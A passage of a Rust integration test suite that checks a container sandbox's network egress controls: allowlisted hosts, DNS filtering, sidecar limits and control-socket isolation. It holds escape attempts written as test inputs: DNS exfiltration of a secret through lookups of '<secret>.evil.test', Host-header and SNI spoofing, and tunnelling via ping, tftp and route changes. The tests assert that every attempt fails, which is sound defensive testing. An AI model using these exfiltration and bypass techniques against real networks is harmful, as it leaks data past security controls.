//! The way out of containers, on a real daemon: servers on a network of the test's own, and attacks from inside.
//!
//! `TOOLGATE_TEST_DOCKER` names the daemon's socket. Without it the tests say that they are skipped. Each runs once with
//! a sidecar, and once without where the test is root. `podman_egress.rs` has the same tests once more, with rooms that Podman
//! makes; the servers are Docker's in both.

#![expect(clippy::unwrap_used, reason = "a bench that cannot be set up is a failed test")]

use std::{
    collections::BTreeMap,
    env, fs,
    io::{BufRead as _, BufReader},
    net::{Ipv4Addr, SocketAddr, UdpSocket},
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::{Arc, Mutex},
    thread,
    time::{Duration, Instant},
};

use rustix::net::{AddressFamily, RecvFlags, SocketAddrUnix, SocketFlags, SocketType, connect, recv, socket_with};
use serde_json::{Value, json};
use toolgate_contract::{Ending, Fault, Files, Job, JobLimits, Needs, Ran};
use toolgate_gate::Permit;
use toolgate_sandbox::{
    Backend, DockerBackend, DockerSettings, Egress, Furnisher, Io, LogShipping, Opening, Room, RoomSpec, Source,
};

#[path = "common/docker.rs"]
mod common;
#[path = "common/logged.rs"]
mod log;

use common::{Daemon, Engine, IMAGE};
use log::logged;

/// A daemon, a network on it, a name server, and a backend.
struct Bench {
    /// Who makes the servers.
    daemon: Daemon,
    /// Who makes the rooms.
    rooms: Daemon,
    dir: tempfile::TempDir,
    backend: DockerBackend,
    network: String,
    gateway: Ipv4Addr,
    subnet: String,
    servers: Vec<String>,
    names: NameServer,
}

impl Bench {
    fn new(furnisher: Furnisher, change: impl FnOnce(&mut DockerSettings)) -> Self {
        let (daemon, rooms) = (daemon().unwrap(), engine().unwrap());
        let dir = tempfile::tempdir_in("/var/tmp").unwrap();
        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
        let mut settings = DockerSettings { log_shipping: None, ..rooms.settings() };
        settings.furnisher = furnisher;
        change(&mut settings);
        let backend = DockerBackend::open(&dir.path().join("data"), settings).unwrap();
        let name = dir.path().file_name().unwrap().to_str().unwrap().to_owned();
        let made = ask(&daemon, "POST", "/networks/create", &json!({ "Name": format!("toolgate-test-{name}") }));
        let network = made["Id"].as_str().unwrap().to_owned();
        let found = ask(&daemon, "GET", &format!("/networks/{network}"), &Value::Null);
        let of_network = |what: &str| found["IPAM"]["Config"][0][what].as_str().unwrap().to_owned();
        let (gateway, subnet) = (of_network("Gateway").parse().unwrap(), of_network("Subnet"));
        Self { daemon, rooms, dir, backend, network, gateway, subnet, servers: Vec::new(), names: NameServer::start() }
    }

    /// A word that no other bench has.
    fn name(&self) -> String {
        self.dir.path().file_name().unwrap().to_str().unwrap().to_owned()
    }

    /// A container that says its name to whoever connects to one of these ports, and who did to its log.
    fn server(&mut self, name: &str, ports: &[u16]) -> Server {
        let greet = format!("echo knock >&2; echo from-{name}; cat > /dev/null");
        let listen = |port: &u16| format!("nc -ll -p {port} -e sh -c '{greet}' & ");
        let script: String = ports.iter().map(listen).chain(["wait".to_owned()]).collect();
        let body = json!({
            "Image": IMAGE,
            "Cmd": ["sh", "-c", script],
            "HostConfig": { "NetworkMode": self.network, "Init": true },
        });
        let id = ask(&self.daemon, "POST", "/containers/create", &body)["Id"].as_str().unwrap().to_owned();
        self.servers.push(id.clone());
        ask(&self.daemon, "POST", &format!("/containers/{id}/start"), &Value::Null);
        let found = inspect(&self.daemon, &id);
        let (_, network) = found["NetworkSettings"]["Networks"].as_object().unwrap().iter().next().unwrap();
        let address: Ipv4Addr = network["IPAddress"].as_str().unwrap().parse().unwrap();
        let server = Server { daemon: self.daemon.clone(), id, address };
        for port in ports {
            let listens = || std::net::TcpStream::connect((address, *port)).is_ok();
            assert!(eventually(listens), "the server does not listen");
        }
        // Each port was tried, some perhaps more than once.
        assert!(eventually(|| server.knocks() >= ports.len()));
        server
    }

    /// A room that may talk to these, wherever they are.
    fn open(&self, hosts: &[&str]) -> Arc<dyn Room> {
        self.try_open(hosts).unwrap()
    }

    fn try_open(&self, hosts: &[&str]) -> Result<Arc<dyn Room>, Fault> {
        let opening = self.opening(hosts);
        let spec = RoomSpec { egress: Egress::Allow(opening), ..RoomSpec::bare() };
        self.backend.open(&spec, &self.name()).map_err(Fault::from)
    }

    fn opening(&self, hosts: &[&str]) -> Opening {
        Opening {
            hosts: hosts.iter().map(|host| (*host).to_owned()).collect(),
            internal: ["*.test".to_owned(), "a.test".into(), "b.test".into(), self.subnet.clone()].to_vec(),
            name_servers: vec![self.names.address],
            ..Opening::default()
        }
    }

    /// The containers of this bench's rooms, with their roles.
    fn containers(&self) -> Vec<(String, String)> {
        containers(&self.rooms, &self.name())
    }

    fn sidecar(&self) -> String {
        let found = self.containers();
        found.into_iter().find_map(|(id, role)| (role == "sidecar").then_some(id)).unwrap()
    }
}

impl Drop for Bench {
    fn drop(&mut self) {
        for server in &self.servers {
            ask(&self.daemon, "DELETE", &format!("/containers/{server}?force=1&v=1"), &Value::Null);
        }
        ask(&self.daemon, "DELETE", &format!("/networks/{}", self.network), &Value::Null);
    }
}

/// Somebody on the network.
struct Server {
    daemon: Daemon,
    id: String,
    address: Ipv4Addr,
}

impl Server {
    /// How many have connected so far.
    fn knocks(&self) -> usize {
        let (_, log) = self.daemon.ask("GET", &format!("/containers/{}/logs?stderr=1", self.id), b"");
        log.matches("knock").count()
    }

    /// So many have connected since there were `before`. What a server says takes a moment to be in its log.
    #[track_caller]
    fn was_reached(&self, before: usize, times: usize) {
        eventually(|| self.knocks() >= before + times);
        assert_eq!(self.knocks() - before, times);
    }
}

/// Answers for a few names, and remembers everything it was asked.
struct NameServer {
    address: SocketAddr,
    known: Arc<Mutex<BTreeMap<String, Ipv4Addr>>>,
    asked: Arc<Mutex<Vec<String>>>,
}

impl NameServer {
    fn start() -> Self {
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        let address = socket.local_addr().unwrap();
        let known = Arc::new(Mutex::new(BTreeMap::new()));
        let asked = Arc::new(Mutex::new(Vec::new()));
        let (names, heard) = (known.clone(), asked.clone());
        thread::spawn(move || {
            let mut message = [0; 1500];
            while let Ok((length, from)) = socket.recv_from(&mut message) {
                let (name, kind, end) = question(&message[..length]);
                let found: Option<Ipv4Addr> = names.lock().unwrap().get(&name).copied().filter(|_| kind == 1);
                heard.lock().unwrap().push(name);
                let mut reply = message[..end].to_vec();
                reply[2..12].copy_from_slice(&[0x81, 0x80, 0, 1, 0, u8::from(found.is_some()), 0, 0, 0, 0]);
                if let Some(found) = found {
                    reply.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4]);
                    reply.extend(found.octets());
                }
                socket.send_to(&reply, from).unwrap();
            }
        });
        Self { address, known, asked }
    }

    fn knows(&self, name: &str, address: Ipv4Addr) {
        self.known.lock().unwrap().insert(name.to_owned(), address);
    }

    fn asked(&self) -> Vec<String> {
        let mut asked = self.asked.lock().unwrap().clone();
        asked.sort();
        asked.dedup();
        asked
    }
}

/// The name that is asked for, what about it, and where the question ends.
fn question(message: &[u8]) -> (String, u16, usize) {
    let (mut at, mut labels) = (12, Vec::new());
    while message[at] != 0 {
        let end = at + 1 + usize::from(message[at]);
        labels.push(String::from_utf8_lossy(&message[at + 1..end]).to_lowercase());
        at = end;
    }
    (labels.join("."), u16::from_be_bytes([message[at + 1], message[at + 2]]), at + 5)
}

/// Is this the suite of Podman?
fn is_podman() -> bool {
    env!("CARGO_CRATE_NAME") == "podman_egress"
}

/// Who makes the servers, or why there is nobody.
fn daemon() -> Result<Daemon, String> {
    Daemon::find(Engine::Docker)
}

/// Who makes the rooms, or why there is nobody.
fn engine() -> Result<Daemon, String> {
    Daemon::find(if is_podman() { Engine::Podman } else { Engine::Docker })
}

/// None of the tests can be made without both.
fn is_skipped() -> bool {
    let missing = daemon().and(engine()).err();
    missing.iter().for_each(|why| eprintln!("SKIPPED: {why}"));
    missing.is_some()
}

fn is_root() -> bool {
    rustix::process::geteuid().is_root()
}

/// Runs a test with a sidecar and without one, as far as this machine can.
fn both_ways(test: impl Fn(Furnisher)) {
    if is_skipped() {
        return;
    }
    test(Furnisher::Sidecar);
    match is_root() {
        true => test(Furnisher::Child),
        false => eprintln!("SKIPPED: without a sidecar it takes root"),
    }
}

fn ask(daemon: &Daemon, method: &str, path: &str, body: &Value) -> Value {
    let body = if body.is_null() { String::new() } else { body.to_string() };
    let (_, answer) = daemon.ask(method, path, body.as_bytes());
    serde_json::from_str(&answer).unwrap_or_default()
}

fn inspect(daemon: &Daemon, container: &str) -> Value {
    ask(daemon, "GET", &format!("/containers/{container}/json"), &Value::Null)
}

/// The containers of an owner, running or not, with their roles.
fn containers(daemon: &Daemon, owner: &str) -> Vec<(String, String)> {
    let role =
        |id: &str| inspect(daemon, id)["Config"]["Labels"]["toolgate.role"].as_str().unwrap_or_default().to_owned();
    let found = daemon.containers(&format!("toolgate.owner={owner}")).into_iter();
    found.map(|id| (id.clone(), role(&id))).collect()
}

fn permit() -> Permit {
    Permit::of_operator(Needs { files: Files::Write, exec: true, ..Needs::NOTHING })
}

fn quiet() -> Io<'static> {
    Io { stop: &|| false, heard: None, stdin: None, stdout: None }
}

fn sh(script: &str, stdin: &[u8]) -> Job {
    Job {
        argv: ["sh", "-c", script].map(str::to_owned).to_vec(),
        cwd: String::new(),
        env: BTreeMap::new(),
        stdin: stdin.to_vec(),
        limits: JobLimits { wall: Duration::from_secs(40), ..JobLimits::default() },
    }
}

fn run(room: &dyn Room, script: &str) -> Ran {
    let ran = room.run(&permit(), &sh(script, b""), quiet()).unwrap();
    assert!(matches!(ran.ending, Ending::Exited { .. }), "{script}: {ran:?}");
    ran
}

fn says(room: &dyn Room, script: &str) -> String {
    run(room, script).stdout.text
}

/// What comes back from this host and port when these bytes are said to it.
fn hears(room: &dyn Room, to: &str, bytes: &[u8]) -> Ran {
    room.run(&permit(), &sh(&format!("nc -w 5 {to} 2>&1; true"), bytes), quiet()).unwrap()
}

/// A request for this host.
fn http(host: &str) -> Vec<u8> {
    format!("GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").into_bytes()
}

/// The first words of TLS to this host.
fn hello(host: &str) -> Vec<u8> {
    let sized = |bytes: Vec<u8>| [u16::try_from(bytes.len()).unwrap().to_be_bytes().to_vec(), bytes].concat();
    let name = sized([vec![0], sized(host.as_bytes().to_vec())].concat());
    let extensions = sized([vec![0, 0], sized(name)].concat());
    let body = [vec![3, 3], vec![7; 32], vec![0], sized(vec![0x13, 0x01]), vec![1, 0], extensions].concat();
    let length = u32::try_from(body.len()).unwrap().to_be_bytes();
    let message = [vec![1], length[1..].to_vec(), body].concat();
    [vec![22, 3, 1], sized(message)].concat()
}

fn eventually(mut holds: impl FnMut() -> bool) -> bool {
    let until = Instant::now() + Duration::from_secs(30);
    while !holds() {
        if Instant::now() > until {
            return false;
        }
        thread::sleep(Duration::from_millis(20));
    }
    true
}

/// Two servers with a name each, and how often each has been knocked at so far.
fn two_servers(bench: &mut Bench) -> ((Server, usize), (Server, usize)) {
    let (a, b) = (bench.server("a", &[80, 443]), bench.server("b", &[80]));
    bench.names.knows("a.test", a.address);
    bench.names.knows("b.test", b.address);
    let knocked = |server: Server| {
        let knocks = server.knocks();
        (server, knocks)
    };
    (knocked(a), knocked(b))
}

#[test]
fn whoever_is_listed_is_reached_and_nobody_else() {
    both_ways(|furnisher| {
        let mut bench = Bench::new(furnisher, |_| {});
        let ((a, at_a), (b, at_b)) = two_servers(&mut bench);
        let room = bench.open(&["a.test:80"]);
        let ran = hears(&*room, "a.test 80", &http("a.test"));
        assert_eq!((ran.stdout.text.as_str(), ran.refused.as_slice()), ("from-a\n", &[] as &[String]));
        assert!(ran.receipt.walls.contains(&"network:net_namespace+door".to_owned()), "{:?}", ran.receipt);
        let via = "CONNECT a.test:80 HTTP/1.1\r\nHost: a.test:80\r\n\r\n".as_bytes();
        let heard = hears(&*room, "127.0.0.1 65128", &[via, &http("a.test")].concat()).stdout.text;
        assert!(heard.starts_with("HTTP/1.1 200 ") && heard.ends_with("from-a\n"), "{heard}");
        assert_eq!(says(&*room, "echo $https_proxy"), "http://127.0.0.1:65128\n");
        for (to, word) in [
            ("b.test 80".to_owned(), "b.test"),
            (format!("{} 80", b.address), "not_allowed"),
            // By its name only, and at its port only.
            (format!("{} 80", a.address), "not_allowed"),
            ("a.test 443".into(), "not_allowed"),
            (format!("{} 22", bench.gateway), "not_allowed"),
        ] {
            let ran = hears(&*room, &to, &http("a.test"));
            assert!(!ran.stdout.text.contains("from-"), "{to}: {}", ran.stdout.text);
            assert!(ran.refused.iter().any(|refused| refused.contains(word)), "{to}: {:?}", ran.refused);
        }
        a.was_reached(at_a, 2);
        assert_eq!(b.knocks(), at_b);
        drop(room);
        // An address that is listed by itself.
        let room = bench.open(&[&format!("{}:80", b.address)]);
        assert_eq!(hears(&*room, &format!("{} 80", b.address), b"anything").stdout.text, "from-b\n");
        drop(room);
        assert!(eventually(|| bench.containers().is_empty()), "a container stays");
    });
}

#[test]
fn an_empty_list_lets_nothing_pass_and_needs_nobody() {
    both_ways(|furnisher| {
        let mut bench = Bench::new(furnisher, |_| {});
        let ((a, at_a), _) = two_servers(&mut bench);
        let room = bench.open(&[]);
        let ran = hears(&*room, &format!("{} 80", a.address), &http("a.test"));
        assert!(!ran.stdout.text.contains("from-"), "{}", ran.stdout.text);
        assert!(ran.receipt.walls.contains(&"network:net_namespace".to_owned()));
        assert_eq!(says(&*room, "nslookup a.test 2>&1 | grep -c 198.18. ; echo $https_proxy"), "0\n\n");
        assert_eq!(a.knocks(), at_a);
        assert_eq!(bench.containers().len(), 1, "there is a sidecar");
    });
}

#[test]
fn no_name_is_carried_out() {
    both_ways(|furnisher| {
        let mut bench = Bench::new(furnisher, |_| {});
        let ((a, _), _) = two_servers(&mut bench);
        let other = is_root().then(|| UdpSocket::bind((bench.gateway, 53)).unwrap());
        let room = bench.open(&["a.test:80", "*.b.test:80"]);
        let ask = |words: &str| says(&*room, &format!("timeout 10 nslookup {words} 2>&1; true"));
        let synthetic = ask("-type=a a.test");
        assert!(synthetic.contains("Address: 198.18."), "{synthetic}");
        let secret = "5ecre7".repeat(9);
        for words in [
            format!("-type=txt {secret}.evil.test"),
            format!("-type=a {secret}.evil.test"),
            format!("-type=a {secret}.a.test"),
            format!("-type=txt {secret}.b.test"),
            format!("-type=txt a.test {}", bench.gateway),
            format!("-type=a {secret}.evil.test {}", bench.gateway),
            format!("-type=mx a.test {}", bench.gateway),
            format!("-type=ns {secret}.a.test 8.8.8.8"),
        ] {
            let answer = ask(&words);
            assert!(!answer.contains(&a.address.to_string()), "{words}: {answer}");
        }
        let tcp = question_over_tcp(&format!("{secret}.evil.test"));
        hears(&*room, &format!("{} 53", bench.gateway), &tcp);
        assert_eq!(bench.names.asked(), Vec::<String>::new(), "somebody was asked before anybody connected");
        hears(&*room, "a.test 80", &http("a.test"));
        assert_eq!(bench.names.asked(), ["a.test"]);
        if let Some(other) = other {
            other.set_nonblocking(true).unwrap();
            let kind = other.recv(&mut [0; 512]).map_err(|error| error.kind());
            assert_eq!(kind, Err(std::io::ErrorKind::WouldBlock), "another name server was asked");
        }
    });
}

/// A question for the text of a name, as it goes over TCP.
fn question_over_tcp(name: &str) -> Vec<u8> {
    let mut message = vec![1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        message.push(u8::try_from(label.len()).unwrap());
        message.extend(label.as_bytes());
    }
    message.extend([0, 0, 16, 0, 1]);
    [u16::try_from(message.len()).unwrap().to_be_bytes().to_vec(), message].concat()
}

#[test]
fn no_other_kind_of_word_gets_out() {
    both_ways(|furnisher| {
        let mut bench = Bench::new(furnisher, |_| {});
        let ((a, _), _) = two_servers(&mut bench);
        let canary = UdpSocket::bind((bench.gateway, 0)).unwrap();
        canary.set_nonblocking(true).unwrap();
        let room = bench.open(&["a.test:80"]);
        let port = canary.local_addr().unwrap().port();
        for script in [
            format!("timeout 5 ping -c1 -W2 {}", a.address),
            format!("timeout 5 ping -c1 -W2 {}", bench.gateway),
            "timeout 5 ping -c1 -W2 a.test".into(),
            "timeout 5 ping6 -c1 -W2 fd00::2".into(),
            "echo | nc -w 3 fd00::2 80".into(),
            "echo | nc -w 3 2001:db8::1 80".into(),
            "echo | nc -w 3 ::ffff:0:1.1.1.1 80".into(),
            format!("timeout 5 tftp -g -r x {} {port}", bench.gateway),
            format!("timeout 5 ntpd -n -q -p {}", bench.gateway),
            format!("timeout 5 logger -h {} x", bench.gateway),
            format!("timeout 5 traceroute -n -q1 -m2 -w1 {}", a.address),
            "ip link set lo down".into(),
            "ip route add 10.0.0.0/8 dev lo".into(),
            "ip link add d0 type veth peer name d1".into(),
        ] {
            let ran = run(&*room, &format!("({script}) 2>&1 && echo passed; true"));
            assert!(!ran.stdout.text.contains("passed"), "{script}: {}", ran.stdout.text);
        }
        let kind = canary.recv(&mut [0; 512]).map_err(|error| error.kind());
        assert_eq!(kind, Err(std::io::ErrorKind::WouldBlock), "a datagram got out");
        assert_eq!(hears(&*room, "a.test 80", &http("a.test")).stdout.text, "from-a\n", "the way out has changed");
    });
}

#[test]
fn an_address_that_others_have_too_is_theirs() {
    both_ways(|furnisher| {
        let mut bench = Bench::new(furnisher, |_| {});
        let ((a, at_a), _) = two_servers(&mut bench);
        bench.names.knows("evil.test", a.address);
        let room = bench.open(&["a.test:80", "a.test:443"]);
        let check = |to: &str, bytes: &[u8], expected: &str, refused: &str| {
            let ran = hears(&*room, to, bytes);
            assert_eq!(ran.stdout.text, expected, "{to}: {:?}", ran.refused);
            let told = ran.refused.iter().filter(|told| told.contains(refused)).count();
            assert_eq!(told, usize::from(!refused.is_empty()), "{:?}", ran.refused);
        };
        check("a.test 80", &http("a.test"), "from-a\n", "");
        check("a.test 443", &hello("a.test"), "from-a\n", "");
        a.was_reached(at_a, 2);
        check("a.test 80", &http("evil.test"), "", "host_mismatch");
        check("a.test 443", &hello("evil.test"), "", "sni_mismatch");
        assert_eq!(a.knocks() - at_a, 2, "whoever says the wrong name is not let in");
    });
}

#[test]
fn a_sidecar_that_is_killed_takes_every_connection_with_it() {
    if is_skipped() {
        return;
    }
    let mut bench = Bench::new(Furnisher::Sidecar, |_| {});
    let ((a, at_a), _) = two_servers(&mut bench);
    let room = bench.open(&["a.test:80"]);
    let sidecar = bench.sidecar();
    let next = "printf 'GET / HTTP/1.0\\r\\nHost: a.test\\r\\n\\r\\n' | timeout 5 nc -w 3 a.test 80";
    let address = "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | timeout 5 nc -w 3 198.18.0.2 80";
    let script = format!(
        "mkfifo /tmp/words; (printf 'GET / HTTP/1.0\\r\\nHost: a.test\\r\\n\\r\\n'; exec sleep 120) > /tmp/words & \
         nc a.test 80 < /tmp/words; echo cut; {next}; {address}; timeout 5 nslookup a.test | grep -c '198.18.0.2'; \
         echo | nc -w 3 127.0.0.1 65128 && echo open; echo end"
    );
    let mut killed = false;
    let mut heard = |source: Source, _: &[u8]| {
        if matches!(source, Source::Stdout) && !killed {
            killed = true;
            ask(&bench.rooms, "POST", &format!("/containers/{sidecar}/kill"), &Value::Null);
        }
    };
    let io = Io { stop: &|| false, heard: Some(&mut heard), stdin: None, stdout: None };
    let ran = room.run(&permit(), &sh(&script, b""), io).unwrap();
    assert_eq!(ran.stdout.text, "from-a\ncut\n0\nend\n", "{ran:?}");
    a.was_reached(at_a, 1);
    assert!(!room.is_alive(), "a room without its way out is taken for a whole one");
    let again = room.run(&permit(), &sh("true", b""), quiet()).map_err(|error| Fault::from(error).code.to_string());
    assert_eq!(again.err().as_deref(), Some("room_lost"));
    drop(room);
    assert!(eventually(|| bench.containers().is_empty()), "a container stays");
}

#[test]
fn without_names_nothing_is_answered_and_listed_addresses_are_still_reached() {
    both_ways(|furnisher| {
        let mut bench = Bench::new(furnisher, |settings| settings.dns_allowed = false);
        let ((a, at_a), (b, _)) = two_servers(&mut bench);
        let other = is_root().then(|| UdpSocket::bind((bench.gateway, 53)).unwrap());
        let room = bench.open(&["a.test:80", &format!("{}:80", b.address), &format!("{}:53", bench.gateway)]);
        for server in ["", "127.0.0.1", "198.18.0.1", &bench.gateway.to_string()] {
            let answer = says(&*room, &format!("timeout 10 nslookup -type=a a.test {server} 2>&1; true"));
            assert!(!answer.contains("Name:"), "{server}: {answer}");
        }
        let tcp = hears(&*room, &format!("{} 53", bench.gateway), &question_over_tcp("a.test"));
        assert!(tcp.refused.is_empty() && tcp.stdout.text.contains("refused"), "{tcp:?}");
        assert_eq!(hears(&*room, "a.test 80", &http("a.test")).stdout.text.matches("from-").count(), 0);
        assert_eq!(hears(&*room, &format!("{} 80", b.address), b"x").stdout.text, "from-b\n");
        let via = "CONNECT a.test:80 HTTP/1.1\r\nHost: a.test:80\r\n\r\n".as_bytes();
        let heard = hears(&*room, "127.0.0.1 65128", &[via, &http("a.test")].concat()).stdout.text;
        assert!(heard.ends_with("from-a\n"), "{heard}");
        a.was_reached(at_a, 1);
        if let Some(other) = other {
            other.set_nonblocking(true).unwrap();
            let kind = other.recv(&mut [0; 512]).map_err(|error| error.kind());
            assert_eq!(kind, Err(std::io::ErrorKind::WouldBlock), "another name server was asked");
        }
    });
}

#[test]
fn without_the_loopback_programs_do_not_talk_to_each_other() {
    let script = "echo hello | nc -l -p 7777 & sleep 1; timeout 5 nc -w 3 127.0.0.1 7777 < /dev/null; kill $! \
                  2> /dev/null; true";
    both_ways(|furnisher| {
        for (allowed, expected) in [(true, "hello\n"), (false, "")] {
            let mut bench = Bench::new(furnisher, |settings| settings.loopback_allowed = allowed);
            two_servers(&mut bench);
            let room = bench.open(&["a.test:80"]);
            assert_eq!(says(&*room, script), expected);
            assert_eq!(hears(&*room, "a.test 80", &http("a.test")).stdout.text, "from-a\n");
            let via = "CONNECT a.test:80 HTTP/1.1\r\nHost: a.test:80\r\n\r\n".as_bytes();
            let heard = hears(&*room, "127.0.0.1 65128", &[via, &http("a.test")].concat()).stdout.text;
            assert!(heard.ends_with("from-a\n"), "{heard}");
        }
        // The setting is about containers that may talk to somebody.
        let bench = Bench::new(furnisher, |settings| settings.loopback_allowed = false);
        assert_eq!(says(&*bench.open(&[]), script), "hello\n");
    });
}

/// The text behind the name of a line in `/proc/<pid>/status`.
fn status(pid: i64, name: &str) -> String {
    let text = fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    text.lines().find_map(|line| line.strip_prefix(name)).unwrap().split_whitespace().next().unwrap().to_owned()
}

/// A limit of the control group a process is in, in either version.
fn limit(pid: i64, controller: &str, [v2, v1]: [&str; 2]) -> String {
    let groups = fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
    let of = |line: &str| line.rsplit_once(':').map(|(head, path)| (head.to_owned(), path.to_owned()));
    let (head, path) =
        groups.lines().filter_map(of).find(|(head, _)| head == "0:" || head.contains(controller)).unwrap();
    let file = match head.as_str() {
        "0:" => format!("/sys/fs/cgroup{path}/{v2}"),
        _ => format!("/sys/fs/cgroup/{controller}{path}/{v1}"),
    };
    fs::read_to_string(file).unwrap().trim().to_owned()
}

#[test]
fn a_sidecar_is_small_and_has_nothing_left() {
    if is_skipped() {
        return;
    }
    let bench = Bench::new(Furnisher::Sidecar, |settings| {
        settings.sidecar_memory = 33 << 20;
        settings.sidecar_cpu = 250_000_000;
        settings.sidecar_pids = 7;
        settings.sidecar_tmpfs = 3 << 20;
    });
    let room = bench.open(&["a.test:80"]);
    let found = inspect(&bench.rooms, &bench.sidecar());
    let host = &found["HostConfig"];
    let sandbox = bench.containers().into_iter().find(|(_, role)| role == "room").unwrap().0;
    let told = json!({
        "network": host["NetworkMode"], "memory": host["Memory"], "swap": host["MemorySwap"], "cpu": host["NanoCpus"],
        "pids": host["PidsLimit"], "tmpfs": host["Tmpfs"], "drop": host["CapDrop"], "add": host["CapAdd"],
        "root": host["ReadonlyRootfs"], "privileged": host["Privileged"], "user": found["Config"]["User"],
        "check": found["Config"]["Healthcheck"]["Test"], "log": host["LogConfig"]["Type"],
    });
    // Podman tells what differs from its own list, and shows names of its own.
    let (tmpfs, dropped, mounted) = match is_podman() {
        false => ("rw,noexec,nosuid,nodev,size=3145728,mode=0700", json!(["ALL"]), 2),
        true => ("rw,noexec,nosuid,nodev,size=3145728,mode=0700,rprivate", host["CapDrop"].clone(), 3),
    };
    let expected = json!({
        "network": format!("container:{sandbox}"), "memory": 33 << 20, "swap": 33 << 20, "cpu": 250_000_000,
        "pids": 7, "tmpfs": { "/tmp": tmpfs }, "drop": dropped, "add": ["NET_ADMIN"], "root": true, "privileged": false, "user": "0:0", "check": ["NONE"], "log": "none",
    });
    assert_eq!(told, expected);
    let mounts: Vec<_> = found["Mounts"].as_array().unwrap().iter().map(|mount| &mount["Destination"]).collect();
    assert_eq!(mounts.len(), mounted, "{mounts:?}");
    let pid = found["State"]["Pid"].as_i64().unwrap();
    assert_eq!(limit(pid, "memory", ["memory.max", "memory.limit_in_bytes"]), (33 << 20).to_string());
    assert_eq!(limit(pid, "pids", ["pids.max", "pids.max"]), "7");
    let cpu = limit(pid, "cpu", ["cpu.max", "cpu.cfs_quota_us"]);
    assert!(["25000 100000", "25000"].contains(&cpu.as_str()), "{cpu}");
    for name in ["CapEff:", "CapPrm:", "CapInh:", "CapAmb:"] {
        assert_eq!(status(pid, name), "0000000000000000", "{name}");
    }
    assert_eq!((status(pid, "NoNewPrivs:"), status(pid, "Seccomp:")), ("1".into(), "2".into()));
    assert_eq!(status(pid, "Threads:"), "1");
    // It shares the room's network, and is to be found nowhere in it.
    let listening = says(&*room, "awk '$4 == \"0A\" {print $2}' /proc/net/tcp /proc/net/tcp6 | sort");
    assert_eq!(listening, "0100007F:FE1D\n0100007F:FE68\n0100007F:FFA3\n");
    let takes_calls = "awk 'NR > 1 && ($4 != \"00000000\" || $8 ~ /^@/)' /proc/net/unix";
    assert_eq!(says(&*room, takes_calls), "");
    assert_eq!(says(&*room, "grep control /proc/mounts /proc/self/mountinfo; ls -d /control 2> /dev/null"), "");
    let comms = says(&*room, "cat /proc/[0-9]*/cmdline 2> /dev/null | tr '\\0' ' '");
    assert!(!comms.contains("beside"), "{comms}");
}

#[test]
fn whoever_else_calls_is_not_answered() {
    if is_skipped() {
        return;
    }
    let mut bench = Bench::new(Furnisher::Sidecar, |_| {});
    two_servers(&mut bench);
    let rooms = bench.dir.path().join("data/rooms");
    let impostor = thread::spawn(move || {
        let socket = socket_with(AddressFamily::UNIX, SocketType::SEQPACKET, SocketFlags::CLOEXEC, None).unwrap();
        let called = eventually(|| {
            let paths = walk(&rooms).into_iter().find(|path| path.ends_with("control/socket"));
            paths.is_some_and(|path| connect(&socket, &SocketAddrUnix::new(path).unwrap()).is_ok())
        });
        let mut heard = [0; 64];
        (called, recv(&socket, &mut heard[..], RecvFlags::empty()).map(|(length, _)| length))
    });
    let room = bench.open(&["a.test:80"]);
    assert_eq!(impostor.join().unwrap(), (true, Ok(0)), "whoever is nobody was told something");
    assert_eq!(hears(&*room, "a.test 80", &http("a.test")).stdout.text, "from-a\n");
    let left = walk(&bench.dir.path().join("data/rooms"));
    assert!(!left.iter().any(|path| path.ends_with("control/socket")), "others may still call: {left:?}");
}

/// Every path below a directory.
fn walk(dir: &Path) -> Vec<PathBuf> {
    let below = |path: PathBuf| [vec![path.clone()], walk(&path)].concat();
    fs::read_dir(dir).into_iter().flatten().flatten().flat_map(|entry| below(entry.path())).collect()
}

#[test]
fn what_cannot_be_finished_leaves_nothing() {
    both_ways(|furnisher| {
        let bench = Bench::new(furnisher, |_| {});
        let refused = |bench: &Bench, hosts: &[&str]| {
            let fault = bench.try_open(hosts).err().unwrap();
            assert!(eventually(|| bench.containers().is_empty()), "a container stays");
            fault
        };
        // The door would let the probe through.
        let fault = refused(&bench, &["toolgate-probe.invalid:443"]);
        assert!(fault.message.contains("find the door shut to strangers"), "{fault:?}");
        assert_eq!(refused(&bench, &["two words:80"]).code, "bad_egress_rule", "the door cannot be served");
        if furnisher == Furnisher::Sidecar {
            let bench = Bench::new(furnisher, |settings| settings.sidecar_memory = 1 << 20);
            refused(&bench, &["a.test:80"]);
        }
    });
}

#[test]
fn a_sidecar_says_whose_it_is_and_what_it_did() {
    if is_skipped() {
        return;
    }
    let bench = Bench::new(Furnisher::Sidecar, |settings| {
        settings.log_shipping =
            Some(LogShipping { collection_timeout: Duration::from_secs(10), max_bytes: 1 << 20, raw: true });
    });
    let room = bench.open(&["a.test:80"]);
    let sidecar = bench.sidecar();
    let of_the_room = bench.containers().into_iter().find(|(_, role)| role == "room").unwrap().0;
    for container in [&sidecar, &of_the_room] {
        let found = inspect(&bench.rooms, container);
        let variables = found["Config"]["Env"].as_array().unwrap();
        assert!(variables.contains(&json!(format!("TOOLGATE_AGENT_ID={}", bench.name()))), "{variables:?}");
    }
    let receipt = run(&*room, "true").receipt;
    assert_eq!((receipt.container.as_deref(), receipt.sidecar.as_deref()), (Some(&*of_the_room), Some(&*sidecar)));
    let log = logged(&sidecar, || room.close());
    let ids = format!("role=\"sidecar\" container_id=\"{of_the_room}\" sidecar_id=\"{sidecar}\"");
    let told: Vec<&String> = log.iter().filter(|line| line.contains(&ids)).collect();
    assert_eq!(told.len(), 3, "{log:#?}");
    assert!(told[0].contains("\"event\":\"furnished\""), "{log:#?}");
    assert!(told[1].ends_with("line={\"event\":\"ended\"}"), "{log:#?}");
    assert!(told[2].contains("lines=2 malformed=0") && told[2].contains("jobs=1"), "{log:#?}");
}

/// Not a test: what [`a_runtime_that_is_killed_leaves_no_sidecar`] kills.
#[test]
#[ignore = "holds a container until it is killed"]
fn hold_a_container() {
    let mut settings = DockerSettings { log_shipping: None, ..engine().unwrap().settings() };
    settings.furnisher = Furnisher::Sidecar;
